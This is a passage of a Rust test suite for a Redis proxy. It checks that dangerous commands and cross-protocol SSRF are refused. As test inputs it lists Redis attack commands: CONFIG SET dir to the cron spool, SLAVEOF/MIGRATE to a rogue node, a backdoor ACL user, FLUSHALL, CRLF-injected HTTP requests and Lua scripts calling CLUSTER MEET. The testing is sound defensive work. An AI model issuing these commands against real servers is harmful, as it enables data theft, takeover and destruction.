        &["config", "set", "stop-writes-on-bgsave-error", "no"],
        &["CONFIG", "SET", "requirepass", "pwned"],
        &["CONFIG", "SET", "maxmemory", "1"],
        &["CONFIG", "SET", "save", "1 1"],
        &["CONFIG", "SET", "appendonly", "yes"],
        // notify-keyspace-events is allowed, but not smuggled with another parameter.
        &[
            "CONFIG",
            "SET",
            "notify-keyspace-events",
            "KEA",
            "protected-mode",
            "no",
        ],
        &["CONFIG", "REWRITE"],
        &["CONFIG", "RESETSTAT"],
        &["CONFIG", "GET", "dir"],
        &["CONFIG", "GET", "*"],
    ] {
        refused_everywhere(&mut env, &owned(args)).await;
    }
}

// ---------------------------------------------------------------------------------------
// (e) Data theft and reaching other tenants
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn theft_and_other_tenant_commands_are_refused_in_every_encoding() {
    let mut env = Env::start().await;
    let port = env.rogue.port.to_string();
    let cases: Vec<Vec<&str>> = vec![
        vec!["SYNC"],
        vec!["PSYNC", "?", "-1"],
        vec![
            "MIGRATE",
            "127.0.0.1",
            &port,
            "",
            "0",
            "1000",
            "KEYS",
            MARKER_KEY,
        ],
        vec!["MIGRATE", "127.0.0.1", &port, MARKER_KEY, "0", "1000"],
        vec!["MONITOR"],
        vec!["CLIENT", "LIST"],
        vec!["CLIENT", "KILL", "TYPE", "normal"],
        vec!["CLIENT", "PAUSE", "100000"],
        vec!["ACL", "SETUSER", "backdoor", "on", ">pw", "~*", "+@all"],
        vec!["ACL", "LIST"],
        vec!["DEBUG", "SEGFAULT"],
        vec!["SHUTDOWN", "NOSAVE"],
        vec!["FAILOVER"],
        vec!["REPLCONF", "listening-port", "6379"],
        vec!["FLUSHALL"],
        vec!["FLUSHDB", "ASYNC"],
        vec!["SWAPDB", "0", "1"],
        vec!["SLOWLOG", "GET"],
    ];
    for args in cases {
        refused_everywhere(&mut env, &owned(&args)).await;
    }
}

// ---------------------------------------------------------------------------------------
// (f) Cross-protocol SSRF
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cross_protocol_ssrf_never_reaches_redis() {
    let mut env = Env::start().await;
    let port = env.rogue.port;

    // A plain HTTP POST: closed at `POST`, no reply.
    let mut c = env.proxy.raw().await;
    c.send(b"POST / HTTP/1.1\r\nHost: x\r\n\r\n").await;
    assert_eq!(show(&c.read_to_close().await), "", "POST");
    env.check("SSRF POST").await;

    // A POST whose body carries commands: nothing after POST runs.
    let mut c = env.proxy.raw().await;
    let body = format!(
        "POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 40\r\n\r\nSLAVEOF 127.0.0.1 {port}\r\nSET ssrf:body 1\r\n"
    );
    c.send(body.as_bytes()).await;
    assert_eq!(show(&c.read_to_close().await), "", "POST with body");
    assert!(!env.direct_exists("ssrf:body").await);
    env.check("SSRF POST with body").await;

    // CRLF-injected GET request line, one write (as the SSRF delivers it). Raw Redis
    // executes the SLAVEOF and answers nothing; the proxy refuses it and closes at Host:.
    let injected = format!(
        "GET /x\r\nSLAVEOF 127.0.0.1 {port}\r\n HTTP/1.1\r\nHost: y\r\n\r\nSET ssrf:after 1\r\n"
    );
    let mut c = env.proxy.raw().await;
    c.send(injected.as_bytes()).await;
    let got = c.read_to_close().await;
    // Whatever arrived before the close is a prefix of: nil for GET /x, NOPERM, unknown.
    let text = String::from_utf8_lossy(&got).into_owned();
    assert!(
        !text.contains("+OK"),
        "injected SLAVEOF was not refused: {:?}",
        show(&got)
    );
    let mut lines = text.split_inclusive("\r\n");
    if let Some(first) = lines.next() {
        assert_eq!(first, "$-1\r\n", "GET /x");
    }
    if let Some(second) = lines.next() {
        assert!(second.starts_with("-NOPERM "), "SLAVEOF got {second:?}");
    }
    assert!(!env.direct_exists("ssrf:after").await);
    env.check("SSRF CRLF injection, one write").await;

    // The same in two writes, so every reply before `Host:` can be checked exactly.
    let mut c = env.proxy.raw().await;
    c.send(format!("GET /x\r\nSLAVEOF 127.0.0.1 {port}\r\n HTTP/1.1\r\n").as_bytes())
        .await;
    c.expect(b"$-1\r\n").await;
    let refusal = c.read_to_line().await;
    assert!(
        is_noperm(&refusal),
        "injected SLAVEOF answered {:?}",
        show(&refusal)
    );
    let unknown = c.read_to_line().await;
    assert!(
        unknown.starts_with(b"-ERR unknown command 'HTTP/1.1'"),
        "{:?}",
        show(&unknown)
    );
    c.send(b"Host: y\r\n\r\nSET ssrf:after 1\r\n").await;
    assert_eq!(show(&c.read_to_close().await), "", "closed at Host:");
    assert!(!env.direct_exists("ssrf:after").await);
    env.check("SSRF CRLF injection, two writes").await;

    // Other injected lines in the same position: lowercase, quote-assembled, leading \v\f.
    for inj in [
        format!("replicaof 127.0.0.1 {port}"),
        format!("sla\"veof\" 127.0.0.1 {port}"),
        "config set dir /var/spool/cron".to_string(),
        "\x0b\x0cFLUSHALL".to_string(),
    ] {
        let mut c = env.proxy.raw().await;
        c.send(format!("GET /x\r\n{inj}\r\n HTTP/1.1\r\nHost: y\r\n\r\n").as_bytes())
            .await;
        let got = c.read_to_close().await;
        assert!(
            !String::from_utf8_lossy(&got).contains("+OK"),
            "injected {inj:?} ran: {:?}",
            show(&got)
        );
        env.check(&format!("SSRF injected {inj:?}")).await;
    }
}

// ---------------------------------------------------------------------------------------
// (g) Cluster control on a `cluster-enabled yes` backend
// ---------------------------------------------------------------------------------------

/// Read-only CLUSTER subcommands (they pass; everything else under CLUSTER is control).
const CLUSTER_READ_ONLY: &[&str] = &[
    "help",
    "info",
    "nodes",
    "slots",
    "shards",
    "myid",
    "myshardid",
    "keyslot",
    "countkeysinslot",
    "getkeysinslot",
    "replicas",
    "slaves",
    "links",
    "count-failure-reports",
    "slot-stats",
    "getslotmigrations",
];

/// A single-node cluster owning every slot, so that data commands (the bystander's SET)
/// work; its nodes.conf lives in the server's own temp dir.
async fn cluster_node() -> RedisServer {
    cluster_node_of("redis-server").await
}

async fn cluster_node_of(bin: &str) -> RedisServer {
    let redis = RedisServer::start_bin(bin, &["--cluster-enabled", "yes"]);
    let mut d = redis.direct().await;
    let _: () = query(&mut d, &["CLUSTER", "ADDSLOTSRANGE", "0", "16383"]).await;
    support::wait_until("cluster_state:ok", || {
        let addr = redis.addr();
        async move {
            let mut d = support::client(&addr).await;
            let info: String = query(&mut d, &["CLUSTER", "INFO"]).await;
            info.contains("cluster_state:ok")
        }
    })
    .await;
    redis
}

/// Arguments that would make each cluster-control subcommand do its damage (a rogue
/// node to MEET, slots to take or drop, ...); `None` for a subcommand not listed here
/// (one a newer server added): then the arity's worth of `0`s.
fn cluster_control_args(sub: &str, myid: &str, rogue_port: &str) -> Vec<Vec<String>> {
    let v = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    match sub {
        "meet" => vec![v(&["127.0.0.1", rogue_port])],
        "forget" => vec![v(&[myid])],
        "replicate" => vec![v(&[myid])],
        "reset" => vec![v(&[]), v(&["HARD"]), v(&["SOFT"])],
        "failover" => vec![v(&[]), v(&["FORCE"]), v(&["TAKEOVER"])],
        "setslot" => vec![
            v(&["1", "NODE", myid]),
            v(&["1", "MIGRATING", myid]),
            v(&["1", "IMPORTING", myid]),
            v(&["1", "STABLE"]),
        ],
        "addslots" | "delslots" => vec![v(&["1", "2"])],
        "addslotsrange" | "delslotsrange" => vec![v(&["0", "100"])],
        "flushslots" | "bumpepoch" | "saveconfig" | "cancelslotmigrations" => vec![v(&[])],
        "set-config-epoch" => vec![v(&["99"])],
        "migration" => vec![v(&["IMPORT", "0", "100"]), v(&["CANCEL", "ALL"])],
        "migrateslots" => vec![v(&["SLOTSRANGE", "0", "100", "NODE", myid])],
        "syncslots" => vec![v(&["ESTABLISH", "SOURCE", myid])],
        "flushslot" => vec![v(&["1"])],
        _ => vec![Vec::new()],
    }
}

/// Every CLUSTER subcommand the server itself lists in `COMMAND INFO CLUSTER`, plus the
/// newer servers' control subcommands, is refused in every encoding (inline, MULTI,
/// RESP3, ...) unless it is read-only; scripts that call CLUSTER with a literal name are
/// refused; the node's `CLUSTER NODES` and `CLUSTER INFO` are unchanged after each.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cluster_control_is_refused_in_every_encoding() {
    cluster_control_refused_on(cluster_node().await).await;
}

/// The same against Valkey 9.1, which has the slot-migration subcommands
/// (MIGRATESLOTS, CANCELSLOTMIGRATIONS, SYNCSLOTS) and FLUSHSLOT in its own metadata.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cluster_control_is_refused_in_front_of_valkey() {
    let Some(valkey) = support::valkey_server() else {
        eprintln!("skipped: no valkey-server (scripts/test.sh installs one; or set PORTCULLIS_TEST_VALKEY)");
        return;
    };
    cluster_control_refused_on(cluster_node_of(&valkey).await).await;
}

async fn cluster_control_refused_on(redis: RedisServer) {
    let rogue = RedisServer::start(&[]);
    let mut env = Env::start_with(redis, rogue, None).await;
    let mut d = env.redis.direct().await;
    let myid: String = query(&mut d, &["CLUSTER", "MYID"]).await;
    let nodes: String = query(&mut d, &["CLUSTER", "NODES"]).await;
    let info: String = query(&mut d, &["CLUSTER", "INFO"]).await;
    let rogue_port = env.rogue.port.to_string();

    // The server's own list of CLUSTER subcommands.
    let reply: Vec<redis::Value> = query(&mut d, &["COMMAND", "INFO", "CLUSTER"]).await;
    let mut subs: BTreeSet<String> = BTreeSet::new();
    if let Some(redis::Value::Array(entry)) = reply.first() {
        if let Some(redis::Value::Array(list)) = entry.get(9) {
            for sub in list {
                if let redis::Value::Array(fields) = sub {
                    let name: String = redis::from_redis_value(&fields[0]).expect("name");
                    subs.insert(name.trim_start_matches("cluster|").to_string());
                }
            }
        }
    }
    assert!(subs.len() >= 25, "COMMAND INFO CLUSTER: {subs:?}");
    // Control subcommands of newer servers (Redis 8.x, Valkey 8/9) the proxy must refuse
    // even in front of this one.
    for newer in [
        "migration",
        "migrateslots",
        "cancelslotmigrations",
        "syncslots",
        "flushslot",
    ] {
        subs.insert(newer.to_string());
    }
    let control: Vec<&String> = subs
        .iter()
        .filter(|s| !CLUSTER_READ_ONLY.contains(&s.as_str()))
        .collect();
    for must in [
        "meet",
        "forget",
        "replicate",
        "reset",
        "failover",
        "setslot",
        "addslots",
        "addslotsrange",
        "delslots",
        "delslotsrange",
        "flushslots",
        "bumpepoch",
        "set-config-epoch",
        "saveconfig",
    ] {
        assert!(
            control.iter().any(|c| *c == must),
            "{must} not in {control:?}"
        );
    }
    for sub in control {
        for extra in cluster_control_args(sub, &myid, &rogue_port) {
            let mut args = vec!["CLUSTER".to_string(), sub.to_ascii_uppercase()];
            args.extend(extra);
            let args: Vec<Vec<u8>> = args.into_iter().map(String::into_bytes).collect();
            refused_everywhere(&mut env, &args).await;
            let now: String = query(&mut d, &["CLUSTER", "NODES"]).await;
            assert_eq!(now, nodes, "CLUSTER {sub}: CLUSTER NODES changed");
            let now: String = query(&mut d, &["CLUSTER", "INFO"]).await;
            assert_eq!(now, info, "CLUSTER {sub}: CLUSTER INFO changed");
        }
    }

    // Scripts that name CLUSTER literally (Redis runs CLUSTER MEET from Lua).
    let mut c = env.proxy.raw().await;
    for script in [
        format!("return redis.call('cluster','meet','127.0.0.1','{rogue_port}')"),
        "return redis.pcall(\"CLUSTER\", \"ADDSLOTS\", \"1\")".to_string(),
        "return redis.call([[cluster]], 'reset', 'hard')".to_string(),
    ] {
        for name in ["EVAL", "EVAL_RO"] {
            c.send(&resp(&[name.as_bytes(), script.as_bytes(), b"0"]))
                .await;
            let line = c.read_to_line().await;
            assert!(is_noperm(&line), "{name} {script:?}: {:?}", show(&line));
        }
        c.send(&resp(&[b"SCRIPT", b"LOAD", script.as_bytes()]))
            .await;
        let line = c.read_to_line().await;
        assert!(
            is_noperm(&line),
            "SCRIPT LOAD {script:?}: {:?}",
            show(&line)
        );
    }
    drop(c);
    let now: String = query(&mut d, &["CLUSTER", "NODES"]).await;
    assert_eq!(now, nodes, "scripts: CLUSTER NODES changed");
    env.check("cluster control").await;
}

/// Read-only CLUSTER subcommands answer through the proxy exactly as Redis answers
/// directly.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cluster_read_only_subcommands_answer_as_redis_does() {
    let redis = cluster_node().await;
    let proxy = Proxy::start(&[&redis]).await;
    let mut d = redis.direct().await;
    let myid: String = query(&mut d, &["CLUSTER", "MYID"]).await;
    let mut direct = Raw::connect(redis.addr().parse().expect("addr")).await;
    let mut proxied = proxy.raw().await;
    let cases: Vec<Vec<&str>> = vec![
        vec!["CLUSTER", "INFO"],
        vec!["CLUSTER", "NODES"],
        vec!["CLUSTER", "SLOTS"],
        vec!["CLUSTER", "SHARDS"],
        vec!["CLUSTER", "MYID"],
        vec!["CLUSTER", "MYSHARDID"],
        vec!["CLUSTER", "KEYSLOT", "somekey"],
        vec!["CLUSTER", "COUNTKEYSINSLOT", "1"],
        vec!["CLUSTER", "GETKEYSINSLOT", "1", "10"],
        vec!["CLUSTER", "REPLICAS", &myid],
        vec!["CLUSTER", "SLAVES", &myid],
        vec!["CLUSTER", "LINKS"],
        vec!["CLUSTER", "COUNT-FAILURE-REPORTS", &myid],
        vec!["CLUSTER", "HELP"],
        vec!["cluster", "info"],
    ];
    for args in cases {
        let args: Vec<&[u8]> = args.iter().map(|a| a.as_bytes()).collect();
        let bytes = resp(&args);
        direct.send(&bytes).await;
        proxied.send(&bytes).await;
        // Each reply ends with a PING's PONG: read up to it on both sides.
        direct.send(b"PING\r\n").await;
        proxied.send(b"PING\r\n").await;
        let want = direct.read_until(b"+PONG\r\n").await;
        let got = proxied.read_until(b"+PONG\r\n").await;
        assert_eq!(show(&got), show(&want), "{:?}", show(&bytes));
        assert!(!got.starts_with(b"-NOPERM"), "{:?} refused", show(&bytes));
    }
}
